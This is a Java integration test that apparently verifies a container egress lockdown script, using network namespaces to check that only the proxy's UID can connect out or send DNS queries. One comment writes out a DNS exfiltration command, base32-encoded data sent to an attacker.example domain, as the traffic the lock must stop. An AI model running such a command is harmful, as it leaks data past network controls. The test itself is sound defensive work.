package org.cyverse.mesa.egress.pod;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The lock-down for real: the same {@code lockdown/lockdown.sh} the pod's init step runs, applied
 * in a network namespace this test makes (the "pod"), connected by a veth pair to a second one
 * (the "upstream": an HTTP server and UDP listeners on documentation addresses, 192.0.2.0/24 and
 * 2001:db8::/64). Nothing leaves these two namespaces.
 *
 * <p>Needs root (CAP_NET_ADMIN, CAP_SYS_ADMIN for {@code ip netns}), iproute2, iptables, curl,
 * setpriv (util-linux) and python3; {@code bin/test} installs them and CI runs it as root. Without them
 * the test fails and says why: it never skips, since a lock-down nobody tested is no lock-down.
 */
class LockdownIT {

    private static final Duration SHORT = Duration.ofSeconds(10);
    private static final int PROXY_UID = 65532;
    private static final int AGENT_UID = 1001;
    private static final String UPSTREAM4 = "192.0.2.10";
    private static final String RESOLVER4 = "192.0.2.53";
    private static final String UPSTREAM6 = "2001:db8::10";
    private static final String RESOLVER6 = "2001:db8::53";

    private final String id = String.format("%06x", ThreadLocalRandom.current().nextInt(1 << 24));
    private final String pod = "mesa-lt-pod-" + id;
    private final String up = "mesa-lt-up-" + id;
    private final List<String> namespaces = new ArrayList<>();
    private final List<Process> processes = new ArrayList<>();
    private Path work;
    private Path upstreamLog;
    private boolean createdNetnsEtc;

    @BeforeEach
    void preconditions() throws IOException {
        List<String> missing = new ArrayList<>();
        Command.Result uid = Command.run(SHORT, "id", "-u");
        if (!uid.stdout().strip().equals("0")) {
            missing.add("root (the test runs as UID " + uid.stdout().strip() + ")");
        }
        for (String tool : List.of("ip", "iptables", "ip6tables", "iptables-restore", "curl", "setpriv", "python3", "bash")) {
            if (!Command.run(SHORT, "sh", "-c", "command -v " + tool).ok()) {
                missing.add(tool);
            }
        }
        if (!Files.exists(Path.of("/proc/net/if_inet6"))) {
            missing.add("IPv6 in the kernel (/proc/net/if_inet6)");
        }
        if (!missing.isEmpty()) {
            fail("THE LOCK-DOWN TEST CANNOT RUN ON THIS MACHINE; missing: " + String.join(", ", missing)
                    + ". It needs root with CAP_NET_ADMIN and CAP_SYS_ADMIN (ip netns), iproute2, iptables, curl, "
                    + "util-linux (setpriv), bash and python3; bin/test installs them when run as root, as CI does.");
        }
        work = Files.createTempDirectory("mesa-lockdown");
        // The proxy runs as another UID: it must read the jar and the config.
        Files.setPosixFilePermissions(work, PosixFilePermissions.fromString("rwxr-xr-x"));
        upstreamLog = work.resolve("upstream.log");
    }

    @AfterEach
    void cleanUp() throws Exception {
        for (Process p : processes) {
            p.destroyForcibly();
            p.waitFor(5, TimeUnit.SECONDS);
        }
        for (String ns : namespaces) {
            // Deleting a namespace removes its veth end, and so the pair.
            Command.run(SHORT, "ip", "netns", "delete", ns);
        }
        Files.deleteIfExists(podEtc().resolve("resolv.conf"));
        Files.deleteIfExists(podEtc());
        if (createdNetnsEtc) {
            Files.deleteIfExists(podEtc().getParent()); // the host as it was found
        }
        if (work != null) {
            try (var files = Files.walk(work)) {
                files.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
            }
        }
    }

    @Test
    void onlyTheProxyUidGetsOutOrResolvesNamesOnIpv4AndIpv6() throws Exception {
        buildNetwork();
        startUpstream();

        // Before the lock: the agent reaches the upstream directly, and UDP to any port arrives.
        // (Shows that what fails later fails because of the rules, not the network.)
        assertEquals("upstream ok", curlAs(AGENT_UID, "http://" + UPSTREAM4 + ":8080/").orFail().stdout());
        assertEquals("upstream ok", curlAs(AGENT_UID, "http://[" + UPSTREAM6 + "]:8080/").orFail().stdout());
        udpAs(AGENT_UID, RESOLVER4, 5353, "before-lock");
        assertTrue(Command.awaitLine(upstreamLog, "udp 5353 before-lock", SHORT), "UDP reaches the listener before the lock");

        startProxy();
        Command.Result first = lockdown();
        String rulesAfterFirst = rules();
        Command.Result second = lockdown(); // idempotent: a restarted init container changes nothing
        assertTrue(first.ok() && second.ok(), first.describe() + "\n" + second.describe());
        assertEquals(rulesAfterFirst, rules(), "running lockdown.sh twice leaves the same rules");
        assertEquals(1, count(rules("iptables"), "-A OUTPUT -j MESA_EGRESS"), "one IPv4 jump:\n" + rulesAfterFirst);
        // Forget the neighbours learnt before the lock: IPv6 must find them again through the rules.
        run("ip", "-n", pod, "neigh", "flush", "all");
        assertEquals(1, count(rules("ip6tables"), "-A OUTPUT -j MESA_EGRESS"), "one IPv6 jump:\n" + rulesAfterFirst);

        // The agent's direct connections are refused at once (TCP reset: curl exit 7), both families.
        assertRefused(curlAs(AGENT_UID, "http://" + UPSTREAM4 + ":8080/"));
        assertRefused(curlAs(AGENT_UID, "http://[" + UPSTREAM6 + "]:8080/"));
        // So are root's: only the proxy's UID is let out.
        assertRefused(curlAs(0, "http://" + UPSTREAM4 + ":8080/"));
        assertRefused(curlAs(0, "http://[" + UPSTREAM6 + "]:8080/"));

        // Through mesa-egress (UID 65532 in the same namespace) the same requests succeed.
        assertEquals("upstream ok", curlAs(AGENT_UID, "-x", "http://127.0.0.1:3128", "http://" + UPSTREAM4 + ":8080/via-proxy").orFail().stdout());
        assertEquals("upstream ok", curlAs(AGENT_UID, "-x", "http://127.0.0.1:3128", "http://[" + UPSTREAM6 + "]:8080/via-proxy").orFail().stdout());
        assertTrue(Command.awaitLine(upstreamLog, "http 2001:db8::2 /via-proxy", SHORT), "the proxy's IPv6 request arrived");
        assertTrue(Command.awaitLine(upstreamLog, "http ::ffff:192.0.2.2 /via-proxy", SHORT), "the proxy's IPv4 request arrived");

        // UDP: the refused datagrams go first; once the allowed ones (sent after them, on the
        // same link) have arrived, the refused ones would have too.
        udpAs(AGENT_UID, RESOLVER4, 5353, "other-port-4");
        udpAs(AGENT_UID, RESOLVER6, 5353, "other-port-6");
        udpAs(AGENT_UID, UPSTREAM4, 53, "not-the-resolver-4");
        udpAs(AGENT_UID, UPSTREAM6, 53, "not-the-resolver-6");
        // DNS: the agent's query (dig $(base32 < data).attacker.example) never leaves; the proxy's does.
        udpAs(AGENT_UID, RESOLVER4, 53, "agent-dns-4");
        udpAs(AGENT_UID, RESOLVER6, 53, "agent-dns-6");
        udpAs(PROXY_UID, RESOLVER4, 53, "proxy-dns-4");
        udpAs(PROXY_UID, RESOLVER6, 53, "proxy-dns-6");
        assertTrue(Command.awaitLine(upstreamLog, "udp 53 proxy-dns-4", SHORT), "the proxy's DNS to the IPv4 resolver passes\n" + log());
        assertTrue(Command.awaitLine(upstreamLog, "udp 53 proxy-dns-6", SHORT), "the proxy's DNS to the IPv6 resolver passes\n" + log());
        String log = log();
        for (String refused : List.of("other-port-4", "other-port-6", "not-the-resolver-4", "not-the-resolver-6", "agent-dns-4",
                "agent-dns-6")) {
            assertFalse(log.contains(refused), refused + " must not arrive:\n" + log);
        }

        // P1 mode: only the listed UIDs are locked; the workbench user's own processes are not.
        Command.Result p1 = Command.run(SHORT, Map.of(), Command.concat(inPod(), "sh", script().toString(),
                "--proxy-uid", String.valueOf(PROXY_UID), "--dns", RESOLVER4, "--lock-uid", String.valueOf(AGENT_UID)));
        assertTrue(p1.ok(), p1.describe());
        assertRefused(curlAs(AGENT_UID, "http://" + UPSTREAM4 + ":8080/"));
        assertEquals("upstream ok", curlAs(1002, "http://" + UPSTREAM4 + ":8080/").orFail().stdout());
        assertEquals(1, count(rules("iptables"), "-A OUTPUT -j MESA_EGRESS"), "re-applied in place");
        // --dns is the opt-in for tools that must resolve: the locked agent's DNS then reaches that resolver, and only it.
        udpAs(AGENT_UID, UPSTREAM4, 53, "opt-in-not-the-resolver");
        udpAs(AGENT_UID, RESOLVER4, 53, "opt-in-dns-4");
        assertTrue(Command.awaitLine(upstreamLog, "udp 53 opt-in-dns-4", SHORT), "with --dns, the agent's DNS passes\n" + log());
        assertFalse(log().contains("opt-in-not-the-resolver"), log());
    }

    private void buildNetwork() {
        for (String ns : List.of(pod, up)) {
            Command.Result r = Command.run(SHORT, "ip", "netns", "add", ns);
            if (!r.ok()) {
                fail("THE LOCK-DOWN TEST CANNOT RUN: cannot create a network namespace (needs root with CAP_SYS_ADMIN): "
                        + r.describe());
            }
            namespaces.add(ns);
        }
        // As a pod's: resolv.conf names the cluster resolver (ip netns exec mounts /etc/netns/NAME/resolv.conf over
        // /etc/resolv.conf), so lockdown.sh sees what it sees in a pod; removed with the namespace.
        try {
            createdNetnsEtc = !Files.exists(podEtc().getParent());
            Files.createDirectories(podEtc());
            Files.writeString(podEtc().resolve("resolv.conf"), "nameserver " + RESOLVER4 + "\nnameserver " + RESOLVER6 + "\n");
        } catch (IOException e) {
            fail("cannot write the pod's resolv.conf under " + podEtc() + ": " + e);
        }
        String vp = "mlp" + id;
        String vu = "mlu" + id;
        // The pair is made directly inside the two namespaces: neither end ever exists in the host's.
        run("ip", "-n", pod, "link", "add", vp, "type", "veth", "peer", "name", vu, "netns", up);
        for (String[] c : new String[][] {
                {"-n", pod, "link", "set", "lo", "up"},
                {"-n", up, "link", "set", "lo", "up"},
                {"-n", pod, "addr", "add", "192.0.2.2/24", "dev", vp},
                {"-n", pod, "addr", "add", "2001:db8::2/64", "dev", vp, "nodad"},
                {"-n", up, "addr", "add", UPSTREAM4 + "/24", "dev", vu},
                {"-n", up, "addr", "add", RESOLVER4 + "/24", "dev", vu},
                {"-n", up, "addr", "add", UPSTREAM6 + "/64", "dev", vu, "nodad"},
                {"-n", up, "addr", "add", RESOLVER6 + "/64", "dev", vu, "nodad"},
                {"-n", pod, "link", "set", vp, "up"},
                {"-n", up, "link", "set", vu, "up"}}) {
            List<String> command = new ArrayList<>(List.of("ip"));
            command.addAll(List.of(c));
            run(command.toArray(new String[0]));
        }
    }

    private void startUpstream() throws Exception {
        Path script = work.resolve("upstream.py");
        try (var in = LockdownIT.class.getResourceAsStream("/lockdown/upstream.py")) {
            Files.copy(in, script);
        }
        processes.add(Command.start(upstreamLog, work.resolve("upstream.err"),
                List.of("ip", "netns", "exec", up, "python3", script.toString())));
        if (!Command.awaitLine(upstreamLog, "ready", SHORT)) {
            fail("the test upstream did not start:\n" + Files.readString(work.resolve("upstream.err")));
        }
    }

    private void startProxy() throws Exception {
        Path jar = work.resolve("mesa-egress.jar");
        Files.copy(Path.of("target/mesa-egress.jar"), jar, StandardCopyOption.REPLACE_EXISTING);
        Path config = work.resolve("mesa-egress.yaml");
        Files.writeString(config, String.join("\n",
                "version: 1",
                "profile: P2",
                "listen: 127.0.0.1:3128",
                "admin: 127.0.0.1:9090",
                "allow:",
                "  - host: \"" + UPSTREAM4 + "\"",
                "    ports: [8080]",
                "  - host: \"" + UPSTREAM6 + "\"",
                "    ports: [8080]",
                // The test's "internet" is on documentation addresses, which the address guard refuses like any range
                // that is not globally reachable: the operator's exception, as for any deliberate one.
                "network:",
                "  allow_private: [\"192.0.2.0/24\", \"2001:db8::/64\"]",
                "tls:",
                "  intercept: none",
                ""), StandardCharsets.UTF_8);
        for (Path p : List.of(jar, config)) {
            Files.setPosixFilePermissions(p, PosixFilePermissions.fromString("rw-r--r--"));
        }
        String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
        processes.add(Command.start(work.resolve("proxy.out"), work.resolve("proxy.err"), Command.concat(inPod(),
                "setpriv", "--reuid=" + PROXY_UID, "--regid=" + PROXY_UID, "--clear-groups",
                java, "-jar", jar.toString(), "run", "--config", config.toString())));
        long deadline = System.nanoTime() + Duration.ofSeconds(30).toNanos();
        while (System.nanoTime() < deadline) {
            Command.Result ready = Command.run(SHORT, Map.of(), Command.concat(inPod(),
                    "curl", "-s", "-m", "2", "-o", "/dev/null", "-w", "%{http_code}", "http://127.0.0.1:9090/readyz"));
            if (ready.stdout().equals("200")) {
                return;
            }
            Thread.sleep(100);
        }
        fail("mesa-egress did not become ready as UID " + PROXY_UID + " in " + pod + ":\n"
                + Files.readString(work.resolve("proxy.err")));
    }

    private Command.Result lockdown() {
        return Command.run(SHORT, Map.of(), Command.concat(inPod(), "sh", script().toString(),
                "--proxy-uid", String.valueOf(PROXY_UID)));
    }

    private Path podEtc() {
        return Path.of("/etc/netns", pod);
    }

    private static Path script() {
        return Path.of("lockdown/lockdown.sh").toAbsolutePath();
    }

    private String rules() {
        return rules("iptables") + rules("ip6tables");
    }

    private String rules(String command) {
        return run("ip", "netns", "exec", pod, command, "-w", "-S").stdout();
    }

    private List<String> inPod() {
        return List.of("ip", "netns", "exec", pod);
    }

    private List<String> as(int uid) {
        return Command.concat(inPod(), "setpriv", "--reuid=" + uid, "--regid=" + uid, "--clear-groups");
    }

    private Command.Result curlAs(int uid, String... args) {
        List<String> command = Command.concat(as(uid), "curl", "-sS", "-g", "--connect-timeout", "3", "-m", "5");
        command.addAll(List.of(args));
        return Command.run(SHORT, Map.of(), command);
    }

    /** One datagram, from bash's /dev/udp (no extra tool, runs as any UID). */
    private void udpAs(int uid, String address, int port, String payload) {
        Command.run(SHORT, Map.of(), Command.concat(as(uid), "bash", "-c",
                "printf '%s\\n' \"$0\" > /dev/udp/" + address + "/" + port, payload));
    }

    private static void assertRefused(Command.Result r) {
        // 7: "Failed to connect" (a reset or an ICMP unreachable); a timeout (28) would mean DROP
        // or a broken network, which an agent would see as a hang rather than a clear refusal.
        assertEquals(7, r.exit(), "expected the connection to be refused at once:\n" + r.describe());
    }

    private Command.Result run(String... command) {
        return Command.run(SHORT, command).orFail();
    }

    private String log() throws IOException {
        return Files.readString(upstreamLog, StandardCharsets.UTF_8);
    }

    private static int count(String text, String line) {
        return (int) text.lines().filter(l -> l.equals(line)).count();
    }
}
